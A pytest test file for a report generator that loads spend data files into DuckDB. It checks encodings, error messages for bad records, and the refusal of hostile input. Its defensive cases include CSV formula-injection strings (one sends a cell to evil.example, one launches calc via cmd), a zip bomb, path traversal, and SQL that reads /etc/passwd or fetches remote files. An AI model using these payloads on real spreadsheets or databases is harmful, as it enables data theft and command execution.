"""Data files: the same figures by every road, every bad record at its place, hostile files refused, one database for all readers."""

from __future__ import annotations

import csv
import io
import multiprocessing
import os
import re
import shutil
import zipfile
from collections.abc import Callable
from decimal import Decimal as D
from pathlib import Path

import duckdb
import openpyxl
import pytest

from generator import build, checking, tables
from generator.diagnostics import Diagnostic, GeneratorError, Position
from generator.kinds import BUILT_IN
from generator.tables import cache, loading
from generator.tables.named import Column, Named
from tests.reading import shown_text

SPEND = BUILT_IN / "competitor_report/spend.csv"
COLUMNS = "columns: {month: 月份, brand: 品牌, medium: 媒体, amount: 金额}"
ROWS = list(csv.reader(io.StringIO(SPEND.read_text(encoding="utf-8-sig"))))
NAMES = {"oatisle": "麦小岛", "whiteelm": "White Elm", "video": "短视频与信息流", "lift": "Lift screens"}


def report(place: Path, data: str = "", *, file: bytes | None = None, name: str = "spend.csv", changes: tuple[tuple[str, str], ...] = ()) -> Path:
    """A working folder with the sample's report on `data: {spend: …}`. Gives the path of the report."""
    logos = [one.relative_to(BUILT_IN) for one in BUILT_IN.glob("*.svg")]
    for one in (Path("briefwright.yaml"), Path("client_profile/sample.yaml"), Path("competitor_report/sample.yaml"), *logos):
        (place / one).parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(BUILT_IN / one, place / one)
    path = place / "competitor_report/sample.yaml"
    text = path.read_text(encoding="utf-8")
    text, found = re.subn(r"^(spend_file: .*\n|data:.*\n(  .*\n)*)", f"data: {{spend: {{file: '{name}', {data or COLUMNS}}}}}\n", text, count=1, flags=re.MULTILINE)
    assert found == 1
    for old, new in changes:
        assert old in text, old
        text = text.replace(old, new, 1)
    path.write_text(text, encoding="utf-8")
    (path.parent / name).write_bytes(SPEND.read_bytes() if file is None else file)
    return path


def rows_of(path: Path) -> list[tuple[str, str, str, D]]:
    return sorted((row["month"], row["brand"], row["medium"], row["amount"]) for row in checking.check(path).paper["spend"])


def problems(path: Path) -> list[Diagnostic]:
    try:
        return list(checking.check(path).warnings)
    except GeneratorError as error:
        return list(error.diagnostics)


def text(rows: list[list[str]], delimiter: str = ",", end: str = "\n") -> str:
    held = io.StringIO()
    csv.writer(held, delimiter=delimiter, lineterminator=end).writerows(rows)
    return held.getvalue()


def with_row(*more: str) -> bytes:
    """The sample's table with records below its own; the first of them is record 452."""
    return (SPEND.read_text(encoding="utf-8-sig").rstrip("\n") + "\n" + "\n".join(more) + "\n").encode()


WANTED = sorted((month, brand, medium, D(amount)) for month, brand, medium, amount in ROWS[1:] if "2025-10" <= month <= "2026-10")


# ------------------------------------------------------------------------------------------------------------- one truth of figures


def test_a_data_file_gives_the_figures_of_a_small_table(tmp_path: Path) -> None:
    large = checking.check(report(tmp_path)).paper
    path = tmp_path / "competitor_report/sample.yaml"
    text = path.read_text(encoding="utf-8")
    path.write_text(re.sub(r"(?m)^data: .*", "spend_file: {file: spend.csv, " + COLUMNS + "}", text), encoding="utf-8")
    small = checking.check(path).paper
    assert (len(small["spend"]), len(large["spend"])) == (451, 271)
    computed = ("ranking", "market", "media_totals", "matrix", "trend", "top_moves", "months", "order")
    assert {name: small[name] for name in computed} == {name: large[name] for name in computed}


def test_the_figures_of_october_are_those_worked_out_by_hand(tmp_path: Path) -> None:
    # the hand-made sum of tests/test_rivals.py: 210 + 96 + 84 + 42 = 432; 432/350 = 1.23429; 432/1228 = 35.179
    first = checking.check(report(tmp_path)).paper["ranking"][0]
    assert (first["brand"], first["amount"], first["change_previous"], first["share"]) == ("oatisle", 432, D("23.4"), D("35.2"))


def test_every_format_shows_the_same_figures_from_a_data_file(tmp_path: Path) -> None:
    outputs = build(report(tmp_path), ["docx", "pptx"], language="en").outputs
    word, deck = (shown_text(outputs[format].data, format) for format in ("docx", "pptx"))
    for figure in ("432", "1,228", "35.2%", "▲+23.4%", "38.6%"):
        assert figure in word
        assert figure in deck


def workbook(rows: list[list[str]]) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append([float(cell) if re.fullmatch(r"\d+", cell) else cell for cell in row])
    book.create_sheet("notes").sheet_state = "hidden"
    held = io.BytesIO()
    book.save(held)
    return held.getvalue()


def parquet(place: Path) -> bytes:
    (place / "in.csv").write_bytes(SPEND.read_bytes())
    with duckdb.connect() as connection:
        connection.execute(f"COPY (FROM read_csv('{place / 'in.csv'}')) TO '{place / 'out.parquet'}'")
    return (place / "out.parquet").read_bytes()


FORMS: dict[str, tuple[str, Callable[[Path], bytes]]] = {
    "utf-8": ("a.csv", lambda _: text(ROWS).encode()),
    "utf-8 with a mark, CRLF": ("a.csv", lambda _: text(ROWS, end="\r\n").encode("utf-8-sig")),
    "line ends of three kinds": ("a.csv", lambda _: b"".join(line.encode() + end for line, end in zip(text(ROWS).splitlines(), [b"\n", b"\r\n", b"\r"] * 999, strict=False))),
    "gb18030": ("a.csv", lambda _: text(ROWS).encode("gb18030")),
    "utf-16": ("a.txt", lambda _: text(ROWS, "\t").encode("utf-16")),
    "semicolons": ("a.csv", lambda _: text(ROWS, ";").encode()),
    "tabs": ("a.tsv", lambda _: text(ROWS, "\t").encode()),
    "blanks around fields, blank lines": ("a.csv", lambda _: ("\n\n" + text([[f" {cell}\u3000" for cell in row] for row in ROWS], end="\n\n")).encode()),
    "a pattern as name": ("a[1]*{b}.csv", lambda _: text(ROWS).encode()),
    "a quote in the name": ("a'b.csv", lambda _: text(ROWS).encode()),
    "a second line in the heading": ("a.csv", lambda _: text([["月份", "品牌", "媒体", "金额", "备\n注"], *([*row, ""] for row in ROWS[1:])]).encode()),
    "workbook": ("a.xlsx", lambda _: workbook(ROWS)),
    "workbook named csv": ("a.csv", lambda _: workbook(ROWS)),
    "parquet": ("a.parquet", parquet),
    "names instead of ids": ("a.csv", lambda _: text([[NAMES.get(cell, cell) for cell in row] for row in ROWS]).encode()),
    "days instead of months": ("a.csv", lambda _: text([[row[0] + "-17" if index else row[0], *row[1:]] for index, row in enumerate(ROWS)]).encode()),
    "months as people write them": ("a.csv", lambda _: text([[row[0].replace("-", "年") + "月" if index else row[0], *row[1:]] for index, row in enumerate(ROWS)]).encode()),
}  # fmt: skip


@pytest.mark.parametrize("form", FORMS)
def test_a_table_reads_the_same_in_every_form(tmp_path: Path, form: str) -> None:
    name, make = FORMS[form]
    path = report(tmp_path, file=make(tmp_path), name=name.replace("'", "''"))
    (path.parent / name.replace("'", "''")).rename(path.parent / name)
    assert rows_of(path) == WANTED
    assert [found.code for found in problems(path) if found.code != "K31d"] == (["W230"] if form == "gb18030" else [])


def test_an_encoding_that_is_named_needs_no_guess_and_is_checked(tmp_path: Path) -> None:
    path = report(tmp_path, COLUMNS + ", encoding: gb18030", file=text(ROWS).encode("gb18030"))
    assert rows_of(path) == WANTED
    assert "W230" not in {found.code for found in problems(path)}
    wrong = problems(report(tmp_path / "b", COLUMNS + ", encoding: utf-8", file=text(ROWS).encode("gb18030")))
    assert [(found.code, "byte 0" in found.message.en) for found in wrong] == [("E231", True)]


@pytest.mark.parametrize(("unit", "factor"), [("one", 10_000), ("thousand", 10), ("million", D("0.01"))])
def test_amounts_are_converted_from_the_unit_of_the_file_exactly(tmp_path: Path, unit: str, factor: D) -> None:
    rows = [ROWS[0], *([*row[:3], str(D(row[3]) * factor)] for row in ROWS[1:])]
    assert rows_of(report(tmp_path, f"{COLUMNS}, unit: {unit}", file=text(rows).encode())) == WANTED


def test_decimals_add_up_without_a_grain_lost_in_any_order(tmp_path: Path) -> None:
    parts = [["2026-10", "oatwhale", "video", "0.1"] for _ in range(580)]
    kept = [row for row in ROWS[1:] if row[:3] != ["2026-10", "oatwhale", "video"]]
    details = [[*row, str(number)] for number, row in enumerate([*parts, *kept])]
    columns = COLUMNS.removesuffix("}") + ", detail: [编号]}"
    for number, order in enumerate((details, details[::-1])):
        assert rows_of(report(tmp_path / str(number), columns, file=text([[*ROWS[0], "编号"], *order]).encode())) == WANTED


def test_more_decimals_than_are_kept_are_rounded_and_said(tmp_path: Path) -> None:
    path = report(tmp_path, file=SPEND.read_text(encoding="utf-8-sig").replace("2026-10,oatisle,video,210", "2026-10,oatisle,video,210.000000049").encode(), changes=(("unit: ten_thousand", "unit: one"),))
    assert ["1 amounts" in found.message.en for found in problems(path) if found.code == "W231"] == [True]
    assert ("2026-10", "oatisle", "video", D(210)) in rows_of(path)


# ----------------------------------------------------------------------------------------------------- what a kind finds in records

FOUND = [
    # code, records below the table, what the message says, where it points to in the file: line, column
    ("K34a", ["2026-10,oatsile,video,3", "2026-09,oatsile,video,4"], 'record 452, column "品牌": the brand "oatsile" is not among brands (2 records)', (453, 9)),
    ("K34b", ["2026-10,oatisle,radio,3"], 'record 452, column "媒体": the medium "radio"', (453, 17)),
    ("K34c", ["2026-10,graincross,lift,-4"], 'record 452, column "金额": 2026-10 graincross lift: the spend is negative, -4', (453, 25)),
    ("K34d", ["2026-10,oatisle,video,3"], "record 452: a second row for 2026-10 oatisle video, after record", (453, 1)),
    ("K34g", ["2026-07,sevenears,video,3"], 'column "月份": sevenears has a row for 2026-07, before its first month', (453, 1)),
    ("E226", ["2026-10,oatisle,video,12万"], 'record 452, column "金额": "12万" is not a number', (453, 23)),
    ("E226", ["2026-10,oatisle,video,1e400"], '"1e400" is not a number', (453, 23)),
    ("E226", ["2026-10,oatisle,video,NaN"], '"NaN" is not a number', (453, 23)),
    ("E226", ["2026-10,oatisle,video,99999999999999999999"], "is not a number", (453, 23)),
    ("E227", ["2026-10,oatisle,video,"], 'record 452, column "金额" is empty', (453, 1)),
    ("E227", ["2026-10, ,video,3"], 'record 452, column "品牌" is empty', (453, 1)),
    ("E238", ["Oct 2026,oatisle,video,3"], 'column "月份": "Oct 2026" is no month or day', (453, 1)),
    ("E238", ["2026-13,oatisle,video,3"], '"2026-13" is no month', (453, 1)),
    ("E225", ["2026-10,oatisle,video"], "record 452: 3 fields, but the heading has 4", (453, 1)),
    ("E225", ["2026-10,oatisle,video,1,250"], "record 452: 5 fields, but the heading has 4", (453, 1)),
]  # fmt: skip


@pytest.mark.parametrize(("code", "rows", "words", "place"), FOUND, ids=[f"{code}-{rows[0]}" for code, rows, _, _ in FOUND])
def test_a_bad_record_is_told_with_its_number_its_column_and_its_place(tmp_path: Path, code: str, rows: list[str], words: str, place: tuple[int, int]) -> None:
    path = report(tmp_path, file=with_row(*rows))
    found = [one for one in problems(path) if one.code != "K31d"]
    assert [one.code for one in found] == [code]
    assert words in found[0].message.en
    assert found[0].message.zh != found[0].message.en
    assert found[0].position is not None
    assert (found[0].position.line, found[0].position.column) == place
    assert found[0].position.excerpt.startswith(rows[0].split(",")[0])


def test_currencies_are_never_mixed(tmp_path: Path) -> None:
    columns = COLUMNS.removesuffix("}") + ", currency: 币种}"
    rows = [[*ROWS[0], "币种"], *([*row, "USD" if number == 448 else "cny" if number else ""] for number, row in enumerate(ROWS[1:]))]
    found = [one for one in problems(report(tmp_path, columns, file=text(rows).encode())) if one.code == "K34k"]
    assert ["record 449" in one.message.en and "USD" in one.message.en for one in found] == [True]


def test_a_file_in_another_currency_is_told_where_the_paper_says_so(tmp_path: Path) -> None:
    path = report(tmp_path, COLUMNS + ", currency: USD")
    found = [one for one in problems(path) if one.code == "K34k"]
    assert [one.message.en for one in found] == ["The file is in USD, the report in CNY"]
    assert found[0].position is not None
    assert found[0].position.excerpt[found[0].position.column - 1 :].startswith("USD")


def test_records_that_differ_in_a_detail_are_added_up(tmp_path: Path) -> None:
    rows = [[*row, "城市" if not index else "云屿"] for index, row in enumerate(ROWS)] + [["2026-10", "oatisle", "video", "5", "南汀"]]
    columns = COLUMNS.removesuffix("}") + ", detail: [城市]}"
    assert ("2026-10", "oatisle", "video", D(215)) in rows_of(report(tmp_path, columns, file=text(rows).encode()))


def test_at_most_fifty_problems_are_told(tmp_path: Path) -> None:
    found = problems(report(tmp_path, file=with_row(*(f"2026-10,oatisle,video,x{number}" for number in range(80)))))
    assert [one.code for one in found if one.code != "K31d"] == ["E226"] * 50 + ["E236"]


def test_a_breach_that_the_paper_accepts_is_a_warning(tmp_path: Path) -> None:
    accept = ("restated:", "accept: [{rule: K34c, reason: 退款}]\nrestated:")
    kept = [row for row in ROWS if row[:3] != ["2026-10", "oatisle", "video"]]
    path = report(tmp_path, file=text([*kept, ["2026-10", "oatisle", "video", "-4"]]).encode(), changes=(accept,))
    assert [one.severity for one in problems(path) if one.code == "K34c" and "record" in one.message.en] == ["warning"]


def test_brands_of_other_categories_may_be_left_out(tmp_path: Path) -> None:
    rows = with_row("2026-10,stranger,video,3", "2026-10,stranger,radio,-7")
    assert rows_of(report(tmp_path, COLUMNS + ", other_brands: leave_out", file=rows)) == WANTED


def test_no_record_is_no_figure_unless_the_file_is_complete(tmp_path: Path) -> None:
    kept = [row for row in ROWS if row[:3] not in (["2026-10", "oatwhale", "outdoor"], ["2026-10", "morninghill", "outdoor"])]
    missing = [one for one in problems(report(tmp_path, file=text(kept).encode())) if one.code == "K34e"]
    assert len(missing) == 2
    path = report(tmp_path / "b", COLUMNS + ", complete: true", file=text(kept).encode())
    assert rows_of(path) == WANTED  # both were 0, and the declared gap of Graincross stays one


def test_a_month_that_the_file_does_not_have_is_never_zero(tmp_path: Path) -> None:
    kept = [row for row in ROWS if row[0] != "2026-10"]
    found = problems(report(tmp_path, COLUMNS + ", complete: true", file=text(kept).encode()))
    assert "K34e" in {one.code for one in found}


# -------------------------------------------------------------------------------------------------------------- what is refused


def zipped(**parts: bytes) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in parts.items():
            package.writestr(name, data)
    return held.getvalue()


def two_sheets() -> bytes:
    book = openpyxl.Workbook()
    book.create_sheet("第二张")
    held = io.BytesIO()
    book.save(held)
    return held.getvalue()


def formula_without_value() -> bytes:
    book = openpyxl.Workbook()
    for row in [*ROWS, ["2026-10", "oatisle", "video", "=1+2"]]:
        book.active.append(row)
    held = io.BytesIO()
    book.save(held)
    return held.getvalue()


REFUSED: list[tuple[str, str, bytes, str, str]] = [
    ("nothing at all", "E228", b"", "", "has no records"),
    ("a heading and nothing else", "E228", "月份,品牌,媒体,金额\n".encode(), "", "has no records"),
    ("only blank lines", "E228", b"\n , \n\r\n", "", "has no records"),
    ("neither encoding", "E222", b"\xe6\x9c\x88\xff\xff,\x80\n1,2\n", "", "neither UTF-8 nor GB 18030"),
    ("a column that is not there", "E223", text([["月份", "牌子", "媒体", "金额"], *ROWS[1:]]).encode(), "", "no column"),
    ("a heading twice", "E239", text([[*ROWS[0], "品牌"], *([*row, "x"] for row in ROWS[1:])]).encode(), "", "more than once"),
    ("a quotation mark that does not close", "E220", text(ROWS).encode() + b'2026-10,"oatisle,video,3\n', "", "does not close"),
    ("an old or encrypted workbook", "E230", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "", "no workbook that can be read"),
    ("a workbook cut off", "E230", workbook(ROWS)[:3000], "", "no workbook that can be read"),
    ("a package that is no workbook", "E230", zipped(a=b"1"), "", "no workbook that can be read"),
    ("a bomb", "E235", zipped(**{"xl/worksheets/sheet1.xml": bytes(30_000_000)}), "", "far too large unpacked"),
    ("a sheet that is not there", "E232", workbook(ROWS), ", sheet: 明细", 'is called "明细"'),
    ("several sheets", "E240", two_sheets(), "", "Sheet, 第二张"),
    ("a formula without its value", "E227", formula_without_value(), "", 'record 452, column "金额" is empty'),
    ("a Parquet file that is none", "E220", b"PAR1 and nothing more", "", "cannot be read"),
    ("no brand, medium or month of ours", "E233", text([ROWS[0], ["2019-01", "oatisle", "video", "1"]]).encode(), "", "no record"),
]  # fmt: skip


@pytest.mark.parametrize(("code", "file", "more", "words"), [case[1:] for case in REFUSED], ids=[case[0] for case in REFUSED])
def test_a_file_that_cannot_be_used_is_refused_in_one_message(tmp_path: Path, code: str, file: bytes, more: str, words: str) -> None:
    path = report(tmp_path, COLUMNS + more, file=file)
    found = problems(path)
    assert [one.code for one in found if one.code != "K31d"] == [code]
    assert words in found[0].message.en
    assert not list(path.parent.rglob(".briefwright-*"))


def test_a_file_is_read_from_below_the_folder_of_the_paper_only(tmp_path: Path) -> None:
    path = report(tmp_path)
    (tmp_path / "elsewhere.csv").write_bytes(SPEND.read_bytes())
    (path.parent / "spend.csv").unlink()
    (path.parent / "spend.csv").symlink_to(tmp_path / "elsewhere.csv")
    assert [one.code for one in problems(path)] == ["E224"]
    path.write_text(path.read_text(encoding="utf-8").replace("'spend.csv'", "'../elsewhere.csv'"), encoding="utf-8")
    assert [one.code for one in problems(path)] == ["E224"]
    path.write_text(path.read_text(encoding="utf-8").replace("'../elsewhere.csv'", "missing.csv"), encoding="utf-8")
    assert [one.code for one in problems(path)] == ["E220"]


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1)', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_in_a_cell_is_text_and_nothing_else(tmp_path: Path, formula: str) -> None:
    rows = [["2026-10", formula, "video", "3"]]
    found = problems(report(tmp_path, file=text([*ROWS, *rows]).encode()))
    assert [one.code for one in found if one.code != "K31d"] == ["K34a"]
    assert formula in found[0].message.en


def test_a_nul_is_a_character_of_a_name(tmp_path: Path) -> None:
    found = problems(report(tmp_path, file=with_row("2026-10,oat\0isle,video,3")))
    assert [one.code for one in found if one.code != "K31d"] == ["K34a"]


# ------------------------------------------------------------------------------------------------------------------- the database


def table(path: Path) -> Named:
    columns = (Column("month", "month", ("月份",), False), Column("brand", "text", ("品牌",), False),
               Column("medium", "text", ("媒体",), False), Column("amount", "amount", ("金额",), False))  # fmt: skip
    return Named("spend", path, path.name, Position(str(path)), columns)


@pytest.fixture
def spend(tmp_path: Path) -> Named:
    shutil.copy(SPEND, tmp_path / "spend.csv")
    return table(tmp_path / "spend.csv")


def test_a_file_is_loaded_once(tmp_path: Path, spend: Named, monkeypatch: pytest.MonkeyPatch) -> None:
    loaded: list[Path] = []
    load = loading.load

    def counted(named: Named, target: Path) -> None:
        loaded.append(target)
        load(named, target)

    monkeypatch.setattr(loading, "load", counted)
    paths = {cache.database(spend, tmp_path / "cache") for _ in range(3)}
    assert len(loaded) == len(paths) == 1
    assert [one.name for one in (tmp_path / "cache").iterdir()] == [loaded[0].name]


def test_other_bytes_or_another_reading_make_another_database(tmp_path: Path, spend: Named) -> None:
    first = cache.database(spend, tmp_path / "cache")
    spend.path.write_bytes(with_row("2026-11,oatisle,video,3"))
    second = cache.database(spend, tmp_path / "cache")
    third = cache.database(Named(**{**{name: getattr(spend, name) for name in Named.__slots__}, "unit": 10}), tmp_path / "cache")
    assert len({first, second, third}) == 3


def test_a_database_that_was_torn_is_made_again(tmp_path: Path, spend: Named) -> None:
    path = cache.database(spend, tmp_path / "cache")
    path.write_bytes(path.read_bytes()[:5000])
    with cache.opened([(spend, path)]) as connection:
        assert connection.execute("SELECT count(*) FROM spend").fetchone() == (451,)


def test_where_nothing_may_be_written_the_figures_are_the_same(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = report(tmp_path)
    monkeypatch.setattr("generator.store.writable", lambda folder: "Permission denied")
    assert rows_of(path) == WANTED
    assert not (tmp_path / ".briefwright").exists()


def test_what_a_killed_loader_left_is_swept_away_when_it_is_old(tmp_path: Path, spend: Named) -> None:
    old, young = (tmp_path / "cache" / f".briefwright-{name}" for name in ("old", "young"))
    for one in (old, young):
        one.mkdir(parents=True)
        (one / "half.duckdb").write_bytes(b"half")
    os.utime(old, (0, 0))
    cache.database(spend, tmp_path / "cache")
    assert (old.exists(), young.exists()) == (False, True)


def _load(path: Path, folder: Path) -> int:
    named = table(path)
    with cache.opened([(named, cache.database(named, folder))]) as connection:
        row = connection.execute("SELECT count(*) FROM spend").fetchone()
    assert row is not None
    return int(row[0])


def test_loaders_at_the_same_time_do_not_collide(tmp_path: Path, spend: Named) -> None:
    with multiprocessing.get_context("spawn").Pool(3) as pool:
        counts = pool.starmap(_load, [(spend.path, tmp_path / "cache")] * 9)
    assert counts == [451] * 9
    assert len(list((tmp_path / "cache").iterdir())) == 1


REACHES = ["FROM read_text('/etc/passwd')", "FROM 'spend.csv'", "COPY spend TO 'out.csv'", "ATTACH 'other.duckdb'", "INSTALL httpfs",
           "SET enable_external_access = true", "SET memory_limit = '90GB'", "FROM read_csv('https://example.com/a.csv')", "FROM glob('/*')",
           "INSERT INTO file0.data SELECT * FROM file0.data", "DROP TABLE file0.data"]  # fmt: skip


@pytest.mark.parametrize("statement", REACHES)
def test_a_query_reaches_nothing_but_its_tables(tmp_path: Path, spend: Named, statement: str) -> None:
    with cache.opened([(spend, cache.database(spend, tmp_path / "cache"))]) as connection, pytest.raises(duckdb.Error):
        connection.execute(statement)


def test_a_query_sees_no_variable_of_the_program(tmp_path: Path, spend: Named) -> None:
    secret = [{"key": 1}]
    with cache.opened([(spend, cache.database(spend, tmp_path / "cache"))]) as connection, pytest.raises(duckdb.Error):
        connection.execute("FROM secret")
    assert secret


# ------------------------------------------------------------------------------------------------------------------ kinds and digests


def test_a_digest_changes_with_the_figures_and_with_nothing_else(tmp_path: Path) -> None:
    path = report(tmp_path)
    file = path.parent / "spend.csv"
    first = checking.data(path)
    assert first.files == (file,)
    file.write_bytes(with_row("2031-01,oatisle,video,3"))  # a month that the report does not compare
    assert checking.data(path).digest == first.digest
    file.write_bytes(SPEND.read_bytes().replace(b"2026-10,oatisle,video,210", b"2026-10,oatisle,video,211"))
    assert checking.data(path).digest != first.digest


def test_the_digest_of_a_small_table_is_that_of_its_bytes(tmp_path: Path) -> None:
    path = report(tmp_path)
    path.write_text(re.sub(r"(?m)^data: .*", "spend_file: {file: spend.csv, " + COLUMNS + "}", path.read_text(encoding="utf-8")), encoding="utf-8")
    first = checking.data(path)
    (path.parent / "spend.csv").write_bytes(with_row("2031-01,oatisle,video,3"))
    assert checking.data(path).digest != first.digest
    assert checking.data(BUILT_IN / "meeting_minutes/sample.yaml") == checking.Data((), "")


SCHEMA = """title: Sales
type: object
additionalProperties: false
required: [kind, id, language, title, data]
properties:
  kind: {$ref: "shared.yaml#/$defs/kind"}
  id: {$ref: "shared.yaml#/$defs/id"}
  language: {$ref: "shared.yaml#/$defs/language"}
  title: {$ref: "shared.yaml#/$defs/title"}
  data:
    type: object
    x-print: false
    x-audience: client
    properties:
      sales:
        type: object
        required: [file]
        properties:
          file: {$ref: "shared.yaml#/$defs/file"}
          columns:
            type: object
            properties:
              day: {$ref: "shared.yaml#/$defs/heading", x-column: date}
              shop: {$ref: "shared.yaml#/$defs/heading", x-column: text}
              amount: {$ref: "shared.yaml#/$defs/heading", x-column: amount}
  best: {type: string, x-audience: client, x-same: true, x-label: {zh: 最好, en: Best}}
"""
TEMPLATE = """<h1>{{ label('best') }}</h1>
<ul>{% for row in tables.shops %}<li>{{ row.shop }}: {{ row.amount }} ({{ row.first }})</li>{% endfor %}</ul>
{% if tables.margins %}<p>{{ tables.margins[0].shop }} secret</p>{% endif %}
"""


@pytest.fixture
def house(tmp_path: Path) -> Path:
    """A working folder with a kind of its own, whose paper names its data."""
    kind = tmp_path / "kinds/sales"
    (kind / "queries").mkdir(parents=True)
    (tmp_path / "briefwright.yaml").write_text("agency: {name: {zh: 甲, en: A}, short_name: {zh: 甲, en: A}, people: [{id: a, name: {zh: 甲, en: A}, title: {zh: 经理, en: Manager}}]}\n", encoding="utf-8")
    (kind / "kind.yaml").write_text("name: {zh: 销售, en: Sales}\nformats: [docx]\nfacts: []\n", encoding="utf-8")
    (kind / "schema.yaml").write_text(SCHEMA, encoding="utf-8")
    (kind / "computed.yaml").write_text("computed:\n  - {set: best, as: \"tables.shops[0].shop\"}\n", encoding="utf-8")
    (kind / "document.html.j2").write_text(TEMPLATE, encoding="utf-8")
    (kind / "queries/shops.sql").write_text("SELECT shop, sum(amount) AS amount, min(day) AS first FROM sales GROUP BY shop ORDER BY amount DESC", encoding="utf-8")
    (kind / "queries/margins.sql").write_text("SELECT shop, amount FROM sales LIMIT 1", encoding="utf-8")
    (kind / "queries/queries.yaml").write_text("tables: {shops: {audience: client}}\n", encoding="utf-8")
    (tmp_path / "sales.csv").write_text("day,shop,amount\n2026-11-02,North,10.50\n2026-11-01,South,7\n2026-11-03,South,7\n", encoding="utf-8")
    (tmp_path / "paper.yaml").write_text("kind: sales\nid: S-1\nlanguage: en\ntitle: Sales\ndata: {sales: {file: sales.csv}}\n", encoding="utf-8")
    return tmp_path


def test_a_kind_of_a_house_asks_its_own_queries_and_prints_their_tables(house: Path) -> None:
    checked = checking.check(house / "paper.yaml")
    assert checked.paper["best"] == "South"
    said = shown_text(build(house / "paper.yaml", ["docx"]).outputs["docx"].data, "docx")
    assert "South:14(2026-11-01)" in said.replace(" ", "")
    assert "secret" not in said


def test_a_table_without_an_audience_is_for_the_inside_only(house: Path) -> None:
    outputs = {audience: build(house / "paper.yaml", ["docx"], audience=audience).outputs["docx"].data for audience in ("client", "internal")}
    assert ["secret" in shown_text(data, "docx") for data in outputs.values()] == [False, True]


BAD_QUERIES = [
    ("SELECT 1; SELECT 2", "one SELECT"),
    ("CREATE TABLE x AS SELECT 1", "one SELECT"),
    ("SELECT * FROM nowhere", "nowhere"),
    ("SELECT $what", "$what is no parameter"),
    ("SELECT * FROM read_text('/etc/passwd')", "disabled"),
    ("SELECT range FROM range(200000)", "more than 100,000 rows"),
]


@pytest.mark.parametrize(("sql", "words"), BAD_QUERIES)
def test_a_query_that_fails_is_told_at_its_file(house: Path, sql: str, words: str) -> None:
    (house / "kinds/sales/queries/shops.sql").write_text(sql, encoding="utf-8")
    found = problems(house / "paper.yaml")
    assert [one.code for one in found] == ["E234"]
    assert words in found[0].message.en
    assert found[0].position is not None
    assert found[0].position.file.endswith("queries/shops.sql")


def test_the_names_of_the_tables_are_known_before_they_are_asked(house: Path) -> None:
    checked = checking.check(house / "paper.yaml")
    assert tables.empty(checked.kind, checked.paper).shape.names == ("margins", "shops")
